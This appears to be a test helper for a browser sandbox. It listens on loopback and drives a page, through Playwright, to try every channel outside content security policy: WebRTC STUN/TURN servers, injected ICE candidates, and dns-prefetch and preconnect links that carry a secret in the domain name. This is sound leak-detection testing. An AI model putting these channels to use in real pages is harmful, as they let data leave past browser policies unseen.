import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { onTestFinished } from 'vitest'

/** Listens on loopback for anything a page sends there. */
export const listenOnLoopback = async () => {
  const heard = { packets: 0, connections: 0 }
  const udp = createSocket('udp4').on('message', () => (heard.packets += 1))
  udp.bind(0, '127.0.0.1')
  await once(udp, 'listening')
  const tcp = createServer(socket => {
    heard.connections += 1
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await once(tcp, 'listening')
  onTestFinished(() => {
    udp.close()
    tcp.close()
  })
  return { heard, udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port }
}

/** The targets to which a script tries to send data. */
export interface Ways {
  /** Ports on loopback. */
  readonly udp: number
  readonly tcp: number
  /** A domain name that carries the secret. */
  readonly secret: string
}

/**
 * Tries every channel that no content security policy covers: WebRTC via servers and to a peer, by address and by name,
 * and DNS prefetches and preconnects. Resolves once the browser has tried all of them.
 */
export const tryToLeak = async (page: Page, ways: Ways): Promise<void> => {
  await page.evaluate(async ({ udp, tcp, secret }) => {
    const login = { username: 'a', credential: 'b' }
    const servers = [
      { urls: `stun:127.0.0.1:${udp}` },
      { urls: `turn:127.0.0.1:${udp}?transport=udp`, ...login },
      { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, ...login },
      { urls: `turns:127.0.0.1:${tcp}?transport=tcp`, ...login },
      { urls: `stun:stun.${secret}:3478` },
      { urls: `turn:turn.${secret}:3478?transport=tcp`, ...login },
    ]
    for (const rel of ['dns-prefetch', 'preconnect'])
      for (const href of [`https://${rel}.${secret}/`, `http://127.0.0.1:${tcp}/`])
        document.head.append(Object.assign(document.createElement('link'), { rel, href }))

    /** Offers a data channel; `isDone` resolves once the candidates are gathered. */
    const offer = async (one: RTCPeerConnection) => {
      const isDone = new Promise<void>(resolve => {
        one.onicegatheringstatechange = () => {
          if (one.iceGatheringState === 'complete') resolve()
        }
      })
      one.createDataChannel('x')
      await one.setLocalDescription(await one.createOffer())
      return { isDone }
    }

    const gather = async (server: RTCIceServer) =>
      (await offer(new RTCPeerConnection({ iceServers: [server] }))).isDone

    const callPeer = async () => {
      const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
      const { isDone } = await offer(one)
      await other.setRemoteDescription(one.localDescription!)
      await other.setLocalDescription(await other.createAnswer())
      await one.setRemoteDescription(other.localDescription!)
      for (const candidate of [
        `candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
        `candidate:2 1 tcp 1518214911 127.0.0.1 ${tcp} typ host tcptype passive`,
        `candidate:3 1 udp 2113937151 peer.${secret} ${udp} typ host`,
      ])
        await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
      return isDone
    }

    await Promise.all([...servers.map(gather), callPeer()])
  }, ways)
}

/** Returns how often a name occurs in Chromium's own log. */
export const timesInLog = (file: string, name: string): number =>
  readFileSync(file, 'utf8').split(name).length - 1
